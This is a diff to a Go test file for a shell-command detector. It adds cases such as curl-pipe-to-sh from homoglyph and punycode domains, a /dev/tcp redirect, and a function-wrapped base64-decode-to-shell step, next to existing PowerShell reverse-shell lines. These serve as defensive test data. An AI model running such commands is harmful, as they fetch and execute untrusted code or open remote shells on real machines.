@@ -80,6 +80,8 @@ func TestShellRules(t *testing.T) {
 		{"curl -fsSL http://45.67.89.10/x | sh", "run-fetched-unknown"},
 		{"curl -fsSL https://gist.githubusercontent.com/a/1/raw | sudo bash", "run-fetched-unknown"},
 		{"wget -qO- https://bit.ly/3x | sh", "run-fetched-unknown"},
+		{"curl https://xn--acme-tols-66a.dev/x | sh", "run-fetched-unknown"},
+		{"curl https://acm\u00e9-tools.dev/x | sh", "run-fetched-unknown"},
 		{"curl http://127.0.0.1:8000/x | sh", ""},
 		{"curl http://localhost:8000/x | sh", ""},
 		{"curl https://example.com/x | sh", "run-fetched"},
@@ -151,6 +153,7 @@ func TestShellRules(t *testing.T) {
 		{"powershell -c \"$c=New-Object Net.Sockets.TCPClient('LHOST',LPORT);iex $d\"", "reverse-shell?"},
 		{"powershell -c \"$c=New-Object Net.Sockets.TCPClient('c2.acme-tools.dev',$port);iex $d\"", "reverse-shell"},
 		{"timeout 1 bash -c '</dev/tcp/db.acme-tools.dev/5432'", ""},
+		{"sh build.sh > /dev/tcp/log.acme-tools.dev/514", ""},
 		{"nc -zv db.acme-tools.dev 5432", ""},
 		{"nc -l 4444 > out", ""},
 		// What stays.
@@ -181,6 +184,7 @@ func TestShellInMarkdown(t *testing.T) {
 		text, want string
 	}{
 		{"echo " + encoded("echo hi") + " | base64 -d | sh", "run-decoded"},
+		{"d() { base64 -d; }\necho " + encoded("echo hi") + " | d | sh", "run-decoded"},
 		{"echo $PAYLOAD | base64 -d | sh", ""},
 		{"echo <payload> | base64 -d | sh", ""},
 		{"echo AAAAAAAAAAAAAA== | base64 -d | sh", ""},
